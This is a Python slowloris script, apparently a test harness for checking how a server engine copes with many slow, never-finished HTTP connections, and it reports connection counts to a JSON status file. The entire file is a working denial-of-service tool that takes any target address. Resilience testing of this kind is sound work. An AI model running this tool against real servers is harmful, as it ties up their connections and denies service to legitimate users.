#!/usr/bin/python3
"""slowloris.py - hold many slow HTTP connections open from one process.

  slowloris.py --addr A --count N --seconds S --status FILE

Opens N non-blocking TCP connections to A:80 (selectors), then sends each
one byte of a request head per second, never finishing it, and never
reconnects.  Every 0.5 s it rewrites FILE with one JSON object: opened
(connects that completed), failed (connects that did not), closed (opened
ones the peer has since closed or reset), open (opened - closed), t (seconds
since start).  Exits after S seconds or once every connection has ended.
"""

import argparse
import errno
import json
import os
import selectors
import socket
import time

HEAD = b"GET /slowloris HTTP/1.1\r\nHost: allowed.test\r\nX-Slow: " + b"a" * 200


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--addr", required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--status", required=True)
    a = ap.parse_args()
    fam = socket.AF_INET6 if ":" in a.addr else socket.AF_INET
    sel = selectors.DefaultSelector()
    start = time.monotonic()
    end = start + a.seconds
    st = {"opened": 0, "failed": 0, "closed": 0}
    conns = {}  # fd -> [sock, state ('conn'|'open'), bytes sent]

    def status():
        d = dict(st, open=st["opened"] - st["closed"],
                 t=round(time.monotonic() - start, 2),
                 connecting=sum(1 for c in conns.values() if c[1] == "conn"))
        tmp = a.status + ".tmp"
        with open(tmp, "w") as f:
            json.dump(d, f)
        os.replace(tmp, a.status)

    def drop(c, was_open):
        sel.unregister(c[0])
        conns.pop(c[0].fileno(), None)
        c[0].close()
        st["closed" if was_open else "failed"] += 1

    # connect in bursts so the engine's accept queue keeps up
    for i in range(a.count):
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.setblocking(False)
        r = s.connect_ex((a.addr, 80))
        if r not in (0, errno.EINPROGRESS):
            s.close()
            st["failed"] += 1
            continue
        conns[s.fileno()] = [s, "conn", 0]
        sel.register(s, selectors.EVENT_WRITE)
        if i % 200 == 199:
            time.sleep(0.05)
    last_tick = last_status = 0.0
    while conns and time.monotonic() < end:
        for key, ev in sel.select(timeout=0.1):
            c = conns.get(key.fd)
            if c is None:
                continue
            s = c[0]
            if c[1] == "conn":
                err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    drop(c, False)
                    continue
                c[1] = "open"
                st["opened"] += 1
                sel.modify(s, selectors.EVENT_READ)
                continue
            try:
                d = s.recv(4096)
            except OSError:
                d = b""
            if not d:  # closed or reset by the engine; an answer is fine too
                drop(c, True)
        now = time.monotonic()
        if now - last_tick >= 1.0:  # one byte per connection per second
            last_tick = now
            for c in list(conns.values()):
                if c[1] != "open" or c[2] >= len(HEAD):
                    continue
                try:
                    c[0].send(HEAD[c[2]:c[2] + 1])
                    c[2] += 1
                except OSError:
                    drop(c, True)
        if now - last_status >= 0.5:
            last_status = now
            status()
    status()


if __name__ == "__main__":
    main()
